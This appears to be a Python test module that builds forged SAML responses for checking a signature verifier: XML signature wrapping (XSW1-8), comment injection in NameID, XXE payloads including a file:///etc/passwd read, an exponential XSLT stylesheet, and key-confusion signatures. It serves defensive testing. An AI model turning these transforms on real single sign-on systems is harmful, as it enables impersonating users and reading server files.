"""What attackers do to a good response: every transform takes bytes that verify and gives bytes that must not.

Knows nothing of the verifier under test, nor of who signed: so it serves for responses made in a test and for those
that a real identity provider has just sent. `victim` is the name that the attacker would like to be.
"""

import base64
import hashlib
import hmac
from collections.abc import Callable, Iterator
from copy import deepcopy
from typing import Any

from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from tests.protocols.saml.kit import DS, SAML, SAMLP, XENC, certificate, rsa_key, sign

EVIL = "_evil"
Transform = Callable[[Any, str], Any]


def attacks(document: bytes, victim: str, canary: str = "http://127.0.0.1:9/canary") -> Iterator[tuple[str, bytes]]:
    """Every attack by its name. One that needs a signature where this response has none is left out."""
    for name, wrap in WRAPPINGS.items():
        for place in ("Response", "Assertion"):
            root = etree.fromstring(document)
            if (wrapped := wrap(root, place, victim)) is not None:
                yield f"{name} of {place}", etree.tostring(wrapped)
    yield from _markup(document, victim, canary)
    yield from _signatures(document, victim, canary)


def _named(root: Any, place: str) -> Any:
    return root if place == "Response" else root.find(f"{{{SAML}}}Assertion")


def _signature(element: Any) -> Any:
    return None if element is None else element.find(f"{{{DS}}}Signature")


def _without_signatures(element: Any) -> None:
    for signature in list(element.iter(f"{{{DS}}}Signature")):
        signature.getparent().remove(signature)


def _evil(element: Any, victim: str) -> Any:
    """A copy that says `victim`, without a signature, under another ID."""
    copy = deepcopy(element)
    _without_signatures(copy)
    for name in copy.iter(f"{{{SAML}}}NameID"):
        name.text = victim
    for value in copy.iter(f"{{{SAML}}}AttributeValue"):
        value.text = victim
    copy.set("ID", EVIL)
    return copy


def _unsigned(element: Any) -> Any:
    copy = deepcopy(element)
    signature = _signature(copy)
    if signature is not None:
        copy.remove(signature)
    return copy


def _around(root: Any, place: str, victim: str, *, before: bool) -> Any:
    """XSW1 and 2: an evil element takes the place; the signature moves into it, and beside the signature stands the
    original, which it still refers to."""
    signed = _named(root, place)
    signature = _signature(signed)
    if signature is None:
        return None
    evil, original = _evil(signed, victim), _unsigned(signed)
    moved = deepcopy(signature)
    evil.insert(1, moved)
    if before:
        moved.addprevious(original)
    else:
        moved.append(original)
    if place == "Response":
        return evil
    signed.getparent().replace(signed, evil)
    return root


def _second(root: Any, place: str, victim: str, *, first: bool) -> Any:
    """XSW3: an evil assertion beside the signed one."""
    signed = root.find(f"{{{SAML}}}Assertion")
    if place == "Response" or signed is None:
        return None
    evil = _evil(signed, victim)
    signed.addprevious(evil) if first else signed.addnext(evil)
    return root


def _within(root: Any, place: str, victim: str) -> Any:
    """XSW4: the signed assertion becomes a child of the evil one."""
    signed = root.find(f"{{{SAML}}}Assertion")
    if place == "Response" or signed is None:
        return None
    evil = _evil(signed, victim)
    signed.getparent().replace(signed, evil)
    evil.append(signed)
    return root


def _changed(root: Any, place: str, victim: str, *, inside: bool) -> Any:
    """XSW5 and 6: the signed one is changed, and the original stands at the end, or in the signature."""
    signed = _named(root, place)
    signature = _signature(signed)
    if signature is None or place == "Response":
        return None
    original = _unsigned(signed)
    for name in signed.iter(f"{{{SAML}}}NameID"):
        name.text = victim
    signed.set("ID", EVIL)
    holder = signature if inside else root
    holder.append(original)  # pyright: ignore[reportUnknownMemberType]  # it is Any, in parts
    return root


def _extensions(root: Any, place: str, victim: str) -> Any:
    """XSW7: the evil assertion in Extensions, where a schema lets anything stand."""
    signed = root.find(f"{{{SAML}}}Assertion")
    if place == "Response" or signed is None:
        return None
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(_evil(signed, victim))
    root.insert(1, extensions)
    return root


def _object(root: Any, place: str, victim: str) -> Any:
    """XSW8: the original in an Object of the signature, the signature in the evil one."""
    signed = _named(root, place)
    signature = _signature(signed)
    if signature is None:
        return None
    evil, original, moved = _evil(signed, victim), _unsigned(signed), deepcopy(signature)
    moved.append(etree.Element(f"{{{DS}}}Object"))
    moved[-1].append(original)
    evil.insert(1, moved)
    if place == "Response":
        return evil
    signed.getparent().replace(signed, evil)
    return root


def _same_id(root: Any, place: str, victim: str) -> Any:
    """The evil one answers to the ID that was signed."""
    signed = root.find(f"{{{SAML}}}Assertion")
    if place == "Response" or signed is None:
        return None
    evil = _evil(signed, victim)
    evil.set("ID", signed.get("ID"))
    signed.addprevious(evil)
    return root


def _other_spelling(root: Any, place: str, victim: str) -> Any:
    """Another element answers to the signed ID by an attribute that is spelt another way."""
    signed = _named(root, place)
    if _signature(signed) is None:
        return None
    root[-1 if place == "Response" else 0].set("Id", signed.get("ID"))
    for name in signed.iter(f"{{{SAML}}}NameID"):
        name.text = victim
    return root


WRAPPINGS: dict[str, Callable[[Any, str, str], Any]] = {
    "XSW1": lambda root, place, victim: _around(root, place, victim, before=False),
    "XSW2": lambda root, place, victim: _around(root, place, victim, before=True),
    "XSW3": lambda root, place, victim: _second(root, place, victim, first=True),
    "XSW3 behind": lambda root, place, victim: _second(root, place, victim, first=False),
    "XSW4": _within,
    "XSW5": lambda root, place, victim: _changed(root, place, victim, inside=False),
    "XSW6": lambda root, place, victim: _changed(root, place, victim, inside=True),
    "XSW7": _extensions,
    "XSW8": _object,
    "same ID": _same_id,
    "other spelling of ID": _other_spelling,
}


def _markup(document: bytes, victim: str, canary: str) -> Iterator[tuple[str, bytes]]:
    """Comments, instructions, entities: what changes what a text says without changing what was signed."""
    name = etree.fromstring(document).find(f".//{{{SAML}}}NameID")
    text = b"" if name is None else (name.text or "").encode()
    if text and document.count(b">" + text + b"<"):
        for label, cut in (("comment", b"<!---->"), ("instruction", b"<?x y?>"), ("CDATA", b"<![CDATA[]]>")):
            yield f"{label} in NameID", document.replace(b">" + text, b">" + text[:3] + cut + text[3:], 1)
        yield "victim before a comment", document.replace(b">" + text, b">" + victim.encode() + b"<!--" + text + b"-->")
    end = document.rindex(b"</")
    yield "comment between elements", document[:end] + b"<!-- -->" + document[end:]
    body = document[document.index(b"<samlp:Response") :] if b"<samlp:Response" in document else document
    for label, doctype in (
        ("document type", b"<!DOCTYPE r>"),
        ("entity", b'<!DOCTYPE r [<!ENTITY e "x">]>'),
        ("external entity", f'<!DOCTYPE r [<!ENTITY e SYSTEM "{canary}">]>'.encode()),
        ("external subset", f'<!DOCTYPE r SYSTEM "{canary}">'.encode()),
        ("parameter entity", f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{canary}"> %p;]>'.encode()),
        ("file", b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
        ("stylesheet", f'<?xml-stylesheet href="{canary}"?>'.encode()),
    ):
        yield label, doctype + body
    yield "UTF-16", b"\xff\xfe" + body.decode().encode("utf-16-le")


def _signatures(document: bytes, victim: str, canary: str) -> Iterator[tuple[str, bytes]]:
    """Signatures that are missing, foreign, of another kind, or that reach for something else."""
    root = etree.fromstring(document)
    for name in root.iter(f"{{{SAML}}}NameID"):
        name.text = victim
    yield "changed", etree.tostring(root)
    _without_signatures(root)
    bare = etree.tostring(root)
    yield "unsigned", bare
    foreign = rsa_key("attacker")
    yield "foreign key, its certificate in KeyInfo", sign(bare, foreign, cert=certificate(foreign))
    yield "foreign key by value", _by_value(sign(bare, foreign), foreign)
    for label, change in _REACHES.items():
        root = etree.fromstring(document)
        for signature in root.iter(f"{{{DS}}}Signature"):
            change(signature, canary)
        yield label, etree.tostring(root)


def _by_value(document: bytes, key: rsa.RSAPrivateKey) -> bytes:
    root = etree.fromstring(document)
    numbers = key.public_key().public_numbers()
    for info in root.iter(f"{{{DS}}}KeyInfo"):
        info.clear()
        value = etree.SubElement(etree.SubElement(info, f"{{{DS}}}KeyValue"), f"{{{DS}}}RSAKeyValue")
        for tag, number in (("Modulus", numbers.n), ("Exponent", numbers.e)):
            data = number.to_bytes((number.bit_length() + 7) // 8)
            etree.SubElement(value, f"{{{DS}}}{tag}").text = base64.b64encode(data).decode()
    return etree.tostring(root)


def _transform(signature: Any, algorithm: str, content: str | None = None) -> None:
    for transforms in signature.iter(f"{{{DS}}}Transforms"):
        added = etree.Element(f"{{{DS}}}Transform", {"Algorithm": algorithm})
        if content is not None:
            added.append(etree.fromstring(content))
        transforms.insert(0, added)


def _hmac_by_certificate(signature: Any, _: str) -> None:
    """N01: the public certificate taken for a shared secret."""
    method = signature.find(f".//{{{DS}}}SignatureMethod")
    method.set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")
    info = etree.tostring(signature.find(f"{{{DS}}}SignedInfo"), method="c14n", exclusive=True)
    secret = (signature.findtext(f".//{{{DS}}}X509Certificate") or "").encode()
    value = base64.b64encode(hmac.new(secret, info, hashlib.sha256).digest()).decode()
    signature.find(f"{{{DS}}}SignatureValue").text = value


def _set(path: str, name: str, value: str) -> Callable[[Any, str], None]:
    def change(signature: Any, _: str) -> None:
        for element in signature.iter(f"{{{DS}}}{path}"):
            element.set(name, value)

    return change


_XSLT = (
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template name="t">'
    '<xsl:param name="n"/><xsl:if test="$n &gt; 0"><xsl:call-template name="t"><xsl:with-param name="n"'
    ' select="$n - 1"/></xsl:call-template><xsl:call-template name="t"><xsl:with-param name="n" select="$n - 1"/>'
    '</xsl:call-template></xsl:if></xsl:template><xsl:template match="/"><xsl:call-template name="t">'
    '<xsl:with-param name="n" select="40"/></xsl:call-template></xsl:template></xsl:stylesheet>'
)


def _retrieval(signature: Any, canary: str) -> None:
    info = signature.find(f"{{{DS}}}KeyInfo")
    if info is not None:
        info.clear()
        etree.SubElement(info, f"{{{DS}}}RetrievalMethod", {"URI": canary})
    signature.find(f"{{{DS}}}SignatureValue").text = "AAAA"


def _two(tag: str) -> Callable[[Any, str], None]:
    def change(signature: Any, _: str) -> None:
        for element in list(signature.iter(f"{{{DS}}}{tag}")):
            element.addnext(deepcopy(element))

    return change


_REACHES: dict[str, Callable[[Any, str], None]] = {
    "XSLT": lambda signature, _: _transform(signature, "http://www.w3.org/TR/1999/REC-xslt-19991116", _XSLT),
    "XPath": lambda signature, _: _transform(
        signature,
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        f'<ds:XPath xmlns:ds="{DS}">count(//* | //@*) &gt; 0</ds:XPath>',
    ),
    "base64 transform": lambda signature, _: _transform(signature, f"{DS}base64"),
    "decryption transform": lambda signature, _: _transform(signature, "http://www.w3.org/2002/07/decrypt#XML"),
    "external reference": lambda signature, canary: _set("Reference", "URI", canary)(signature, canary),
    "reference to nothing": _set("Reference", "URI", "#nothing"),
    "XPointer": _set("Reference", "URI", "#xpointer(id('_response1'))"),
    "HMAC with the certificate": _hmac_by_certificate,
    "unknown signature method": _set("SignatureMethod", "Algorithm", "urn:none"),
    "MD5": _set("DigestMethod", "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#md5"),
    "inclusive canonicalisation": _set(
        "CanonicalizationMethod", "Algorithm", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
    ),
    "retrieval of a key": _retrieval,
    "two references": _two("Reference"),
    "two SignedInfo": _two("SignedInfo"),
    "two digests": _two("DigestValue"),
    "two signatures": _two("SignatureValue"),
    "another namespace's signature": lambda signature, _: setattr(signature, "tag", f"{{{XENC}}}Signature"),
}
